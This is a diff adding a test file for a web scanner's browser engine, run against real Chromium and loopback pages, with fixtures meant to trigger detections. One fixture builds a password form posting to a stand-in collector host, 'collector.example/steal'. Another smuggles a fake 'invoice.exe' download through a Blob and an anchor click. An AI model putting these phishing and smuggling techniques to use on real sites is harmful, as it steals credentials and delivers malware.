@@ -1,0 +1,262 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { deflateSync } from 'node:zlib';
+import { createLogger } from '@lookout/telemetry';
+import { Ajv2020 } from 'ajv/dist/2020.js';
+import { scanResultSchema } from '../../src/analysis/result-schema.js';
+import { analyzeFetch } from '../../src/analysis/analyze.js';
+import type { ScanResult } from '../../src/analysis/result.js';
+import { BrowserPool } from '../../src/capture/browser-pool.js';
+import { scanWithBrowser, type BrowserEngineDeps } from '../../src/capture/browser-engine.js';
+import { ThreatIntelIndex } from '../../src/threat-intel/threat-index.js';
+import { defaultRules, signalIds } from '../analysis/fixtures.js';
+
+/**
+ * The browser engine against the real Chromium (CHROMIUM_PATH, default /usr/bin/chromium) and pages
+ * served on loopback. Every captured field is checked against a page built to produce it.
+ */
+
+const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+
+type Route = (req: IncomingMessage, res: ServerResponse) => void;
+
+/** A 16×16 PNG, built here so the favicon bytes are known to the test. */
+function tinyPng(): Buffer {
+  const crcTable = Array.from({ length: 256 }, (_, n) => {
+    let c = n;
+    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+    return c >>> 0;
+  });
+  const crc = (buf: Buffer) => {
+    let c = 0xffffffff;
+    for (const byte of buf) c = (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
+    return (c ^ 0xffffffff) >>> 0;
+  };
+  const chunk = (type: string, data: Buffer) => {
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(data.length);
+    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
+    const sum = Buffer.alloc(4);
+    sum.writeUInt32BE(crc(body));
+    return Buffer.concat([len, body, sum]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(16, 0);
+  ihdr.writeUInt32BE(16, 4);
+  ihdr[8] = 8;
+  ihdr[9] = 2;
+  const raw = Buffer.alloc(16 * (1 + 16 * 3));
+  for (let y = 0; y < 16; y += 1) for (let x = 0; x < 16; x += 1) raw[y * 49 + 1 + x * 3] = x * 16;
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
+}
+
+/**
+ * Reference MurmurHash3 x86_32 written independently of the engine's (byte-wise, BigInt-free but
+ * with explicit >>> 0 arithmetic), and Python's base64.encodebytes line layout.
+ */
+function referenceMmh3(text: string): number {
+  const data = Buffer.from(text, 'ascii');
+  const mul = (a: number, b: number) => ((((a & 0xffff) * b) + ((((a >>> 16) * b) & 0xffff) << 16)) >>> 0);
+  const rotl = (x: number, r: number) => ((x << r) | (x >>> (32 - r))) >>> 0;
+  let h = 0;
+  let i = 0;
+  for (; i + 4 <= data.length; i += 4) {
+    let k = ((data[i] ?? 0) | ((data[i + 1] ?? 0) << 8) | ((data[i + 2] ?? 0) << 16) | ((data[i + 3] ?? 0) << 24)) >>> 0;
+    k = mul(rotl(mul(k, 0xcc9e2d51), 15), 0x1b873593);
+    h = (mul(rotl((h ^ k) >>> 0, 13), 5) + 0xe6546b64) >>> 0;
+  }
+  let k = 0;
+  const rest = data.length - i;
+  if (rest >= 3) k ^= (data[i + 2] ?? 0) << 16;
+  if (rest >= 2) k ^= (data[i + 1] ?? 0) << 8;
+  if (rest >= 1) {
+    k ^= data[i] ?? 0;
+    h = (h ^ mul(rotl(mul(k >>> 0, 0xcc9e2d51), 15), 0x1b873593)) >>> 0;
+  }
+  h = (h ^ data.length) >>> 0;
+  h = mul((h ^ (h >>> 16)) >>> 0, 0x85ebca6b);
+  h = mul((h ^ (h >>> 13)) >>> 0, 0xc2b2ae35);
+  h = (h ^ (h >>> 16)) >>> 0;
+  return h > 0x7fffffff ? h - 0x100000000 : h;
+}
+
+function encodebytes(body: Buffer): string {
+  const b64 = body.toString('base64');
+  let out = '';
+  for (let i = 0; i < b64.length; i += 76) out += `${b64.slice(i, i + 76)}\n`;
+  return out;
+}
+
+describe('scanner-worker browser engine (real Chromium)', function () {
+  this.timeout(60_000);
+  let server: Server;
+  let base: string;
+  let pool: BrowserPool;
+  let deps: BrowserEngineDeps;
+  const routes = new Map<string, Route>();
+  const favicon = tinyPng();
+  const logger = createLogger('browser-test', 'silent');
+
+  const html = (body: string, extra: Record<string, string> = {}): Route => (_req, res) => {
+    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...extra });
+    res.end(body);
+  };
+
+  before(async () => {
+    routes.set('/favicon.ico', (_req, res) => {
+      res.writeHead(200, { 'content-type': 'image/png' });
+      res.end(favicon);
+    });
+    server = createServer((req, res) => {
+      const route = routes.get((req.url ?? '/').split('?')[0] ?? '/');
+      if (route) return route(req, res);
+      res.writeHead(404, { 'content-type': 'text/plain' });
+      res.end('not found');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    pool = new BrowserPool({ executablePath: CHROMIUM, recycleAfterScans: 100, maxRssMb: 4096, logger });
+    await pool.start();
+    const rules = await defaultRules();
+    const index = new ThreatIntelIndex([]);
+    deps = { pool, logger, watchdogMs: 30_000, limits: { networkIdleMs: 500 }, analyze: (response, rendered) => analyzeFetch(response, { threatIntel: index, rules }, rendered) };
+  });
+
+  after(async () => {
+    await pool?.close();
+    server?.closeAllConnections();
+    await new Promise<void>((resolve) => server?.close(() => resolve()));
+  });
+
+  const validate = new Ajv2020({ strict: true, strictRequired: false, allowUnionTypes: true, allErrors: true }).compile(scanResultSchema);
+
+  /** A completed rendered scan; its result must validate against the published schema. */
+  async function scan(path: string, options = {}): Promise<ScanResult> {
+    const verdict = await scanWithBrowser(`${base}${path}`, options, deps, undefined, 20_000);
+    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
+    assert.ok(validate(verdict.result), JSON.stringify(validate.errors));
+    return verdict.result as ScanResult;
+  }
+
+  it('takes page facts from the DOM after scripts, and keeps the raw document beside them', async () => {
+    routes.set('/scripted', html(`<!doctype html><html><head><title>empty</title></head><body><script>
+      document.title = 'Sign in to Example';
+      const f = document.createElement('form'); f.action = 'https://collector.example/steal'; f.method = 'post';
+      const p = document.createElement('input'); p.type = 'password'; f.appendChild(p); document.body.appendChild(f);
+      console.log('kit loaded');
+      document.cookie = 'session=secret-value; path=/';
+    </script></body></html>`));
+    const result = await scan('/scripted');
+    assert.equal(result.page?.title, 'Sign in to Example');
+    assert.equal(result.page?.forms.length, 1);
+    assert.equal(result.page?.forms[0]?.hasPassword, true);
+    assert.equal(result.rawPage?.title, 'empty');
+    assert.equal(result.rawPage?.forms.length, 0);
+    const capture = result.capture!;
+    assert.equal(capture.engine, 'browser');
+    assert.deepEqual(capture.console.find((m) => m.type === 'log'), { type: 'log', text: 'kit loaded' });
+    assert.equal(capture.cookies.length, 1);
+    assert.equal(capture.cookies[0]?.name, 'session');
+    assert.ok(!JSON.stringify(result).includes('secret-value'), 'a cookie value reached the result');
+    assert.match(capture.screenshot!.sha256, /^[0-9a-f]{64}$/);
+    assert.equal(capture.screenshot!.width, 1280);
+    assert.match(capture.screenshot!.phash, /^[0-9a-f]{16}$/);
+    assert.ok(capture.dom!.bytes > 0);
+    assert.ok(capture.har!.bytes > 0);
+    const doc = capture.requests.find((r) => r.url === `${base}/scripted`);
+    assert.equal(doc?.status, 200);
+    assert.equal(doc?.resourceType, 'document');
+    assert.equal(doc?.remoteAddress, '127.0.0.1');
+    assert.equal(doc?.sha256, result.http.bodySha256);
+  });
+
+  it('records every subresource with status, type and body hash', async () => {
+    const script = 'window.loaded = true;';
+    routes.set('/app.js', (_req, res) => {
+      res.writeHead(200, { 'content-type': 'application/javascript' });
+      res.end(script);
+    });
+    routes.set('/with-subresources', html(`<!doctype html><title>s</title><script src="/app.js"></script><img src="/missing.png"><script>fetch('/api-missing')</script>`));
+    const result = await scan('/with-subresources');
+    const js = result.capture!.requests.find((r) => r.url === `${base}/app.js`);
+    assert.equal(js?.status, 200);
+    assert.equal(js?.resourceType, 'script');
+    assert.equal(js?.mimeType, 'application/javascript');
+    assert.equal(js?.bytes, script.length);
+    assert.equal(js?.sha256, createHash('sha256').update(script).digest('hex'));
+    assert.equal(result.capture!.requests.find((r) => r.url === `${base}/missing.png`)?.status, 404);
+    assert.equal(result.capture!.requests.find((r) => r.url === `${base}/api-missing`)?.resourceType, 'fetch');
+  });
+
+  it('hashes the favicon the Shodan way (checked against an independent mmh3)', async () => {
+    routes.set('/plain', html('<!doctype html><title>plain</title><p>hi</p>'));
+    const result = await scan('/plain');
+    const expected = referenceMmh3(encodebytes(favicon));
+    assert.equal(result.capture!.favicon?.mmh3, expected);
+    assert.equal(result.capture!.favicon?.sha256, createHash('sha256').update(favicon).digest('hex'));
+  });
+
+  it('tells http, meta refresh and script redirects apart, and ends at the final URL after scripts', async () => {
+    routes.set('/hop', (_req, res) => {
+      res.writeHead(302, { location: '/meta' });
+      res.end();
+    });
+    routes.set('/meta', html('<!doctype html><meta http-equiv="refresh" content="0;url=/js"><title>meta</title>'));
+    routes.set('/js', html('<!doctype html><title>js</title><script>setTimeout(() => { location.href = "/landing"; }, 10);</script>'));
+    routes.set('/landing', html('<!doctype html><title>Landed</title><p>landing</p>'));
+    const result = await scan('/hop');
+    assert.equal(result.finalUrl, `${base}/landing`);
+    assert.equal(result.page?.title, 'Landed');
+    assert.deepEqual(
+      result.redirects.map((r) => [r.kind, r.url, r.location]),
+      [
+        ['http', `${base}/hop`, '/meta'],
+        ['meta', `${base}/meta`, `${base}/js`],
+        ['js', `${base}/js`, `${base}/landing`],
+      ],
+    );
+    assert.equal(result.redirects[0]?.status, 302);
+  });
+
+  it('observes a download started by script (Blob + anchor click) without writing it', async () => {
+    const payload = 'MZ fake executable';
+    routes.set('/smuggle', html(`<!doctype html><title>invoice</title><body><script>
+      const blob = new Blob([${JSON.stringify(payload)}], { type: 'application/x-msdownload' });
+      const a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.exe';
+      document.body.appendChild(a); a.click();
+    </script>`));
+    const result = await scan('/smuggle');
+    const download = result.capture!.downloads[0];
+    assert.equal(download?.filename, 'invoice.exe');
+    assert.match(download?.url ?? '', /^blob:/);
+    assert.equal(download?.bytes, payload.length);
+    assert.equal(download?.sha256, createHash('sha256').update(payload).digest('hex'));
+    assert.ok(signalIds(result).includes('executable-download'), signalIds(result).join());
+  });
+
+  it('applies the job options: user agent, language, referer, extra headers, mobile device', async () => {
+    let seen: IncomingMessage['headers'] = {};
+    routes.set('/echo', (req, res) => {
+      seen = req.headers;
+      html('<!doctype html><title>echo</title>')(req, res);
+    });
+    const result = await scan('/echo', { userAgent: 'LookoutTest/1', acceptLanguage: 'fr-FR', referer: 'https://mail.example/', extraHeaders: { 'x-campaign': 'c1' }, device: 'mobile' });
+    assert.equal(seen['user-agent'], 'LookoutTest/1');
+    assert.match(String(seen['accept-language']), /^fr-FR/);
+    assert.equal(seen.referer, 'https://mail.example/');
+    assert.equal(seen['x-campaign'], 'c1');
+    assert.equal(result.capture!.screenshot?.width, 390);
+  });
+
+  it('fails the scan with the reason code when the target cannot be reached', async () => {
+    const closed = createServer();
+    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
+    const port = (closed.address() as AddressInfo).port;
+    await new Promise<void>((resolve) => closed.close(() => resolve()));
+    const verdict = await scanWithBrowser(`http://127.0.0.1:${port}/`, {}, deps, undefined, 10_000);
+    assert.equal(verdict.scanState, 'failed');
+    assert.equal(verdict.reason?.code, 'connection_refused');
+  });
+});
